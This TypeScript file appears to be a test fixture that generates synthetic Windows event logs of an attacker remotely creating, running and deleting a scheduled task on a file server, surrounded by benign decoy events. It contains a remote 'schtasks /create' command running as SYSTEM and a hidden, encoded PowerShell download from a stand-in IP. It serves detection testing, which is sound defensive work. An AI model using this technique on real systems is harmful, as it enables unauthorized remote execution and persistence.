/**
 * Twelve minutes on a workstation and a file server. An administrator's account, used on the workstation,
 * creates a scheduled task on the server, starts it and deletes it again. The connection that carried the
 * request is logged after the registry writes it caused.
 */
import type { Sample } from "./expected.ts";
import { everyday } from "./everyday.ts";
import {
  SCHEDULE_PORT,
  adminPrompt,
  endpointMapperConnection,
  eventLogConnection,
  localTask,
  localTime,
  scheduleConnection,
  windowsUpdatesTask,
} from "./scenes.ts";
import { TASK_CACHE, encodedCommand } from "./task.ts";
import type { Task } from "./task.ts";
import { WinlogbeatLog } from "./winlogbeat.ts";
import { ADMIN, CLERK, SYSTEM, newMachine, startProcess } from "./world.ts";
import type { Machine, Process } from "./world.ts";

const START_MS = Date.UTC(2026, 2, 11, 9, 12);
const BOOT_MS = Date.UTC(2026, 2, 11, 6, 58);
const at = (minutes: number, seconds: number): number =>
  START_MS + Math.round((minutes * 60 + seconds) * 1000);

const SCRIPT =
  "iwr http://198.51.100.23/inventory.txt -OutFile $env:TEMP\\inventory.txt";
const ARGUMENTS = `-w hidden -enc ${encodedCommand(SCRIPT)}`;
const TASK_NAME = "\\Microsoft\\Windows\\Diagnosis\\InventorySync";
/** The attacker's side of the two connections of `schtasks /create`. */
const MAPPER_CALL_PORT = 50_232;
const CALL_PORT = 50_233;
const PASSWORD = "Heron-Marsh-4417";

export function incidentWinlogbeat(): Sample {
  const log = new WinlogbeatLog(4_417);
  const workstation = newMachine(41, "WS-0417", "10.20.4.17", CLERK, BOOT_MS);
  const server = newMachine(42, "SRV-FILES2", "10.20.1.12", CLERK, BOOT_MS);

  // Each of these looks like a part of the sequence and must raise nothing.
  endpointMapperConnection(log, server, at(0, 40));
  windowsUpdatesTask(log, server, at(0, 41.2));
  localTask(log, workstation, at(1, 50), "Daily report");
  eventLogConnection(log, server, at(4, 30));
  windowsUpdatesTask(log, server, at(4, 45));
  scheduleConnection(log, workstation, at(6, 0));
  windowsUpdatesTask(log, workstation, at(7, 4.5));
  scheduleConnection(log, server, at(7, 30), { source: "0:0:0:0:0:0:0:1" });
  windowsUpdatesTask(log, server, at(7, 33));

  // Half a sequence: a console looks at the server's tasks and changes none.
  scheduleConnection(log, server, at(3, 0));

  const planted = attack(log, workstation, server, at(8, 52.232));
  everyday(log, workstation, server, at(0, 2), at(11, 28), 520);
  return log.finish([planted]);
}

function attack(
  log: WinlogbeatLog,
  workstation: Machine,
  server: Machine,
  createMs: number,
) {
  const logonId = "0x14f392e";
  const remoteLogonId = "0xead4335";
  const prompt = adminPrompt(workstation, createMs - 57_000, ADMIN, logonId);
  log.processStart(workstation, prompt);

  const create = schtasks(
    prompt,
    workstation,
    createMs - 62,
    `/create /S ${server.name} /TN "${TASK_NAME}" /TR "powershell ${ARGUMENTS}" /SC ONCE /ST 23:55 /RU SYSTEM /RP ${PASSWORD} /F`,
  );
  log.processStart(workstation, create);
  log.imageLoad(workstation, create, createMs - 44, "taskschd.dll");
  const source = workstation.address;
  for (const [sourcePort, destinationPort, delayMs] of [
    [MAPPER_CALL_PORT, 135, 1_210],
    [CALL_PORT, SCHEDULE_PORT, 1_224],
  ] as const) {
    log.network(
      workstation,
      create,
      createMs - 30,
      { source, sourcePort, destination: server.address, destinationPort },
      createMs + delayMs,
    );
  }
  log.processEnd(workstation, create, createMs + 96);

  log.networkLogon(
    server,
    ADMIN,
    remoteLogonId,
    createMs - 6,
    source,
    CALL_PORT,
  );
  const task: Task = {
    guid: "{7D0E3B52-91C4-4E6F-8A1D-3F5C2B9E6A40}",
    path: TASK_NAME,
    author: `${ADMIN.domain}\\${ADMIN.name}`,
    date: localTime(createMs),
    start: "2026-03-11T23:55:00",
    command: "powershell",
    arguments: ARGUMENTS,
    userId: SYSTEM.sid,
  };
  const caller = { account: ADMIN, logonId: remoteLogonId };
  const actions = log.taskCreated(server, task, caller, createMs);
  // What the machines went on with in the second that passed before the connection was written.
  for (const afterMs of [120, 310, 480, 690, 820]) {
    log.processAccess(
      server,
      server.services.defender,
      server.services.schedule,
      createMs + afterMs,
    );
  }
  // Sysmon stamps the connection long before the write, and logs it a second after the write.
  const connectionMs = createMs - 20_406;
  endpointMapperConnection(log, server, connectionMs - 14, {
    source,
    sourcePort: MAPPER_CALL_PORT,
    writtenMs: createMs + 1_004,
  });
  const connection = scheduleConnection(log, server, connectionMs, {
    source,
    sourcePort: CALL_PORT,
    writtenMs: createMs + 1_013,
  });
  log.logoff(server, ADMIN, remoteLogonId, createMs + 11_640);

  runAndDelete(log, workstation, server, prompt, task, createMs);
  return {
    host: server.computer,
    events: [
      { draft: connection, atUs: connectionMs * 1_000 },
      { draft: actions, atUs: createMs * 1_000 },
    ],
    actions: [
      {
        type: "exec",
        command: task.command,
        arguments: task.arguments,
      },
    ],
    source: "task event",
  } as const;
}

/** `schtasks /run` 13 s later and `/delete` 75 s later: two more connections, and no `Actions` write. */
function runAndDelete(
  log: WinlogbeatLog,
  workstation: Machine,
  server: Machine,
  prompt: Process,
  task: Task,
  createMs: number,
): void {
  const { schedule } = server.services;
  const tasks = `${TASK_CACHE}\\Tasks\\${task.guid}`;
  const info = { path: `${tasks}\\DynamicInfo`, details: "Binary Data" };
  const remote = (afterMs: number, verb: string): number => {
    const atMs = createMs + afterMs;
    const process = schtasks(
      prompt,
      workstation,
      atMs,
      `/${verb} /S ${server.name} /TN "${TASK_NAME}"`,
    );
    log.processStart(workstation, process);
    log.processEnd(workstation, process, atMs + 140);
    scheduleConnection(log, server, atMs + 40, {
      source: workstation.address,
    });
    return atMs + 80;
  };

  const runMs = remote(13_000, "run");
  log.registry(server, schedule, runMs, { path: tasks, details: undefined });
  log.registry(server, schedule, runMs, info);
  const powershell = startProcess(server, runMs + 40, {
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    commandLine: `${task.command} ${task.arguments}`,
    account: SYSTEM,
    parent: schedule,
  });
  log.processStart(server, powershell);
  log.scheduler(server, 129, runMs + 52, {
    TaskName: task.path,
    Path: task.command,
    ProcessID: String(powershell.pid),
    Priority: "16384",
  });
  log.imageLoad(server, powershell, runMs + 310, "amsi.dll");
  log.network(server, powershell, runMs + 1_900, {
    source: server.address,
    sourcePort: 60_114,
    destination: "198.51.100.23",
    destinationPort: 80,
    service: "http",
  });
  log.fileCreate(
    server,
    powershell,
    runMs + 2_300,
    "C:\\Windows\\Temp\\inventory.txt",
  );
  log.processEnd(server, powershell, runMs + 2_700);
  log.registry(server, schedule, runMs + 2_710, info);
  log.scheduler(server, 201, runMs + 2_716, {
    TaskName: task.path,
    ActionName: task.command,
    ResultCode: "0",
    EnginePID: String(schedule.pid),
  });

  const deleteMs = remote(75_000, "delete");
  for (const path of [
    `${TASK_CACHE}\\Plain\\${task.guid}`,
    tasks,
    `${TASK_CACHE}\\Tree${task.path}`,
  ]) {
    log.registryDelete(server, schedule, deleteMs, path);
  }
  log.scheduler(server, 141, deleteMs + 16, {
    TaskName: task.path,
    UserName: `${ADMIN.domain}\\${ADMIN.name}`,
  });
  const caller = { account: ADMIN, logonId: "0xead51c0" };
  log.taskAudit(server, 4699, task, caller, deleteMs + 17);
}

function schtasks(
  prompt: Process,
  machine: Machine,
  atMs: number,
  options: string,
): Process {
  return startProcess(machine, atMs, {
    image: "C:\\Windows\\System32\\schtasks.exe",
    commandLine: `schtasks ${options}`,
    account: prompt.account,
    logonId: prompt.logonId,
    parent: prompt,
    directory: prompt.directory,
  });
}
